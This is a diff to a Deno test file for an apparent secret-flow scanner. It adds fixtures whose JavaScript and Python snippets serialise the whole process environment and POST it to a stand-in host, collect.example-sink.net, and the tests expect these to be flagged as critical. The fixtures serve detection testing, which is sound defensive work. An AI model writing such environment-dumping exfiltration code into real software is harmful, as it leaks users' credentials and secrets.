@@ -437,8 +437,9 @@ Deno.test("one member of a copy of the environment is that variable; the whole c
     ruleAt(findings(files), "secret-flow").map((f) => [f.severity, f.excerpt]);
   // `env.KEY` of a copy, to the host the key names: information, as `process.env.KEY` is.
   const one = flows({
-    "scripts/ask.mjs": 'const env = { ...process.env, EXTRA: "1" };\n' +
-      "await fetch(`https://api.example-llm.com/v1/ask?key=${env.EXAMPLE_LLM_API_KEY}`);\n",
+    "scripts/ask.mjs": "export async function ask(options) {\n" +
+      "  const env = options?.env ?? process.env;\n" +
+      "  await fetch(`https://api.example-llm.com/v1/ask?key=${env.EXAMPLE_LLM_API_KEY}`);\n}\n",
     "scripts/ask.py":
       'import os, requests\nenv = dict(os.environ)\nrequests.post("https://api.example-llm.com/v1",' +
       ' headers={"Authorization": env["EXAMPLE_LLM_API_KEY"]})\n',
@@ -447,17 +448,46 @@ Deno.test("one member of a copy of the environment is that variable; the whole c
       ' headers={"Authorization": env.get("EXAMPLE_LLM_API_KEY")})\n',
   });
   assert.equal(one.length, 3, JSON.stringify(one));
+  // A copy of the environment alone: `{ ...process.env }`.
+  assert.match(
+    flows({
+      "scripts/copy.mjs": "const env = { ...process.env };\n" +
+        "const key = env.EXAMPLE_LLM_API_KEY?.trim();\n" +
+        "await fetch(`https://api.example-llm.com/v1/ask?key=${key}`);\n",
+    })[0]![1]!,
+    /\$EXAMPLE_LLM_API_KEY → api\./,
+  );
   for (const [severity, excerpt] of one) {
     assert.equal(severity, "info", excerpt);
     assert.match(excerpt!, /\$EXAMPLE_LLM_API_KEY → api\./);
   }
-  // The copy itself, a method of it or a key not named: still the whole environment.
-  for (const use of ["JSON.stringify(env)", "JSON.stringify(Object.entries(env))", "env[name]"]) {
+  // The copy itself, a method of it or a key not named; a container holding the environment, a
+  // copy with keys of its own, or one changed afterwards: still the whole environment.
+  const cases: [string, string][] = [
+    ["const env = { ...process.env };", "JSON.stringify(env)"],
+    ["const env = { ...process.env };", "JSON.stringify(Object.entries(env))"],
+    ["const env = { ...process.env };", "env[name]"],
+    ["const env = { env: process.env };", "JSON.stringify(env.env)"],
+    ["const env = { ...process.env, EXTRA: secret };", "env.EXTRA"],
+    ["const env = { ...process.env };\nenv.EXTRA = secret;", "env.EXTRA"],
+  ];
+  for (const [made, use] of cases) {
     const whole = flows({
-      "scripts/send.mjs": `const env = { ...process.env };\nconst name = process.argv[2];\n` +
+      "scripts/send.mjs":
+        `const name = process.argv[2];\nconst secret = JSON.stringify(process.env);\n${made}\n` +
         `await fetch("https://collect.example-sink.net/u", { method: "POST", body: ${use} });\n`,
     });
-    assert.equal(whole[0]?.[0], "critical", `${use}: ${JSON.stringify(whole)}`);
+    assert.equal(whole[0]?.[0], "critical", `${made} ${use}: ${JSON.stringify(whole)}`);
     assert.match(whole[0]![1]!, /the environment →/);
   }
+  const python = flows({
+    "scripts/send.py": 'import os, requests\ncfg = {"env": dict(os.environ)}\n' +
+      'requests.post("https://collect.example-sink.net/u", json=cfg["env"])\n',
+  });
+  assert.equal(python[0]?.[0], "critical", JSON.stringify(python));
+  const items = flows({
+    "scripts/items.py": "import os, requests\nenv = os.environ.copy()\n" +
+      'requests.post("https://collect.example-sink.net/u", json=dict(env.items()))\n',
+  });
+  assert.equal(items[0]?.[0], "critical", JSON.stringify(items));
 });
